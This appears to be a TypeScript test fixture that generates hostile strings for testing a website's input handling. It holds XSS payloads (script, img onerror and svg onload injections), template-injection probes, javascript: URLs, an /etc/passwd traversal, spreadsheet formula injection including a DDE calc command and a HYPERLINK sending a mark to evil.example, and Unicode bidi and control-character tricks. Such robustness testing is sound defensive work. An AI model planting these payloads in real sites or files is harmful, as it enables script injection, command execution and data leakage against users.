// What a malicious or careless hand could write where the site expects words. Each string carries a mark of its own, so
// that it can be found again on a page, and calls `pwned` with it wherever it is run.

/** One way of attacking; a territory of the hostile content is written in each. */
export interface Style {
  /** Also the territory's id. */
  readonly id: string;
  /** The attacks, the most telling first: a short field takes as many as it holds. */
  readonly attacks: (mark: string) => readonly string[];
  /** Whether the attack must be what the text begins with, as a formula of a spreadsheet. */
  readonly first?: boolean;
  /** Whether the text fills its field to the last character. */
  readonly full?: boolean;
}

const markup = (mark: string): readonly string[] => [
  '<big>',
  `"onload=pwned('${mark}') '`,
  `<img src=x onerror=pwned('${mark}')>`,
  `<script>pwned('${mark}')</script>`,
  `</title></script></textarea></style><svg/onload=pwned('${mark}')>`,
  `" autofocus onfocus=pwned('${mark}') onmouseover=pwned('${mark}') x="`,
  `' onclick='pwned("${mark}")' --><!-- ]]> <![CDATA[ <?php ?>`,
  `&lt;b&gt; &amp;amp; &#60;script&#62; &NotAnEntity; &`,
];

const templates = (mark: string): readonly string[] => [
  `{{7*7}}`,
  `javascript:pwned('${mark}')`,
  `\${pwned('${mark}')}`,
  `{{constructor.constructor("pwned('${mark}')")()}} {pwned('${mark}')} <%= 7*7 %> #{7*7} $& $1 $\` \\1`,
  `[слово](javascript:pwned('${mark}')) data:text/html,<script>pwned('${mark}')</script>`,
  `vbscript:x https://evil.example/x.js //evil.example/ ../../../etc/passwd?a=b#c %00%2e%2e %zz`,
  `__proto__ constructor toString hasOwnProperty`,
  '**жирно** _курсив_ `код` $$x^2$$ \\frac{a}{b} \\u003cb\\u003e',
];

const tables = (mark: string): readonly string[] => [
  `=1+1`,
  `=HYPERLINK("https://evil.example/?${mark}","нажми")`,
  `=cmd|'/c calc'!A0 @SUM(1) +1+1 -2+3`,
  `"; "," ";" \t | и\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:чужое\nX-${mark}: \\n \\, \\;`,
];

/** What a letter is buried under: marks that stand above, through and around it. */
const markFlood = '\u0300\u0335\u0489'.repeat(60);

const letters = (mark: string): readonly string[] => [
  `שלום`,
  `(مرحبا) 123 «אבג» [${mark}]`,
  `z${markFlood}`,
  `👩🏽${'\ufe0f'.repeat(20)} ﷽﷽﷽ ꧅꧅꧅ 𒐫𒐫𒐫 \ufffd ı İ ß ﬁ Ǆ`,
  `${'ᄀ'.repeat(6)} ${'เ'.repeat(50)} ${'\u3164'.repeat(20)}`,
];

const long = (): readonly string[] => [];

/** Characters that no printed act has; the check must name each of them wherever it stands. */
export const refusedCharacters: Readonly<Record<string, string>> = {
  'нулевой знак': '\u0000',
  'знак управления': '\u0007',
  'конец строки старых терминалов': '\u0085',
  'мягкий перенос': '\u00ad',
  'пробел без ширины': '\u200b',
  'разворот письма': '\u202e',
  'закрытие разворота': '\u202c',
  'изоляция письма': '\u2067',
  'арабский знак направления': '\u061c',
  'знак-метка': '\u{e0041}',
  'разделитель строк': '\u2028',
  'половина знака': '\ud800',
  'вторая половина знака': '\udfff',
  'не знак': '\uffff',
};

const unseen = (mark: string): readonly string[] => [
  ...Object.values(refusedCharacters).map((character) => `а${character}б`),
  `\u202eтекст задом наперёд <${mark}>`,
];

export const styles: readonly Style[] = [
  { id: 'primer', attacks: markup },
  { id: 'templates', attacks: templates },
  { id: 'tables', attacks: tables, first: true },
  { id: 'letters', attacks: letters },
  { id: 'unseen', attacks: unseen },
  { id: 'long', attacks: long, full: true },
];

/**
 * Half of a pair is cut where a program counts in UTF-16: the filling is letters of two units each. What is longer than any field
 * is a word of common letters: a browser needs minutes to break a megabyte for which it must look up a font.
 */
const filling = (limit: number): string => (limit > 20_000 ? 'щ' : '𝕎');

/** A hostile text of at most `limit` characters (code points) with a mark; `words` are what an honest hand would write there. */
export const hostileText = (style: Style, mark: string, words: string, limit: number): string => {
  if (style.full === true) return `${mark}${filling(limit).repeat(Math.max(0, limit - mark.length))}`;
  const pieces = style.first === true ? [...style.attacks(mark), words] : [words, ...style.attacks(mark)];
  const fits = (text: string): boolean => [...text].length <= limit;
  const [first = '', ...rest] = style.first === true ? pieces : [];
  const start = style.first === true && fits(`${first} ${mark}`) ? `${first} ${mark}` : mark;
  return (style.first === true ? rest : pieces).reduce(
    (text, piece) => (fits(`${text} ${piece}`) ? `${text} ${piece}` : text),
    start,
  );
};
